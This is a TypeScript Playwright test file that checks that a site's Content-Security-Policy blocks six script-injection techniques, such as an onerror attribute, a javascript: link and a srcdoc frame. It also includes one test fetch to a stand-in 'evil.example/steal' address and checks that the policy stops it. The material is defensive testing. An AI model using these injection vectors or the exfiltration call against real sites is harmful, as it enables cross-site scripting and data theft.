import { setTimeout as sleep } from "node:timers/promises";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { setDemoStage, type DemoStage } from "./demo-stage.ts";

let stage: DemoStage;

beforeAll(async () => {
  stage = await setDemoStage();
});
afterAll(() => stage.stop());

/** Ways to run a script or to load something, each setting `window.ran` when the browser lets it. */
const injections: Record<string, string> = {
  "an inline script": `const script = document.createElement("script");
    script.textContent = "window.ran = true"; document.body.append(script);`,
  "a handler in an attribute": `const image = document.createElement("div");
    image.innerHTML = '<img src="data:," onerror="window.ran = true">'; document.body.append(image);`,
  "a javascript: link": `const link = document.createElement("a");
    link.href = "javascript:void(window.ran = true)"; document.body.append(link); link.click();`,
  "text handed to a timer": `setTimeout("window.ran = true", 0);`,
  "a script from a data: address": `const script = document.createElement("script");
    script.src = "data:text/javascript,window.ran=true"; document.body.append(script);`,
  "a script in a frame": `const frame = document.createElement("iframe");
    frame.srcdoc = "<script>parent.ran = true</script>"; document.body.append(frame);`,
};

/** Runs the injection in the page; answers whether its script ran. */
async function inject(page: Page, script: string): Promise<boolean> {
  // The debugger's own evaluation is not the page's, and the policy does not hold for it: for what it starts, it does.
  await page.evaluate(`(async () => { ${script} })()`);
  await sleep(400);
  return page.evaluate(() => "ran" in window);
}

describe("the Content-Security-Policy in a browser", () => {
  it.each(Object.keys(injections))("does not run %s", async (name) => {
    const { page, context } = await stage.open(undefined);
    await page.goto("/");
    expect(await inject(page, injections[name]!)).toBe(false);
    await context.close();
  });

  it.each(Object.keys(injections))("is what stops %s: without it, it runs", async (name) => {
    const context = await stage.browser.newContext({ baseURL: stage.slipway.url, bypassCSP: true });
    const page = await context.newPage();
    await page.goto("/");
    expect(await inject(page, injections[name]!)).toBe(true);
    await context.close();
  });

  it("lets a page send nothing to another server, and another page frame nothing", async () => {
    const { page, context } = await stage.open(undefined);
    const answer = await page.goto("/");
    const sent = await page.evaluate(async () => {
      const violation = new Promise<string>((resolve) =>
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective)),
      );
      await fetch("https://evil.example/steal").catch(() => {});
      return violation;
    });
    expect(sent).toBe("connect-src");
    expect(answer?.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
    await context.close();
  });
});
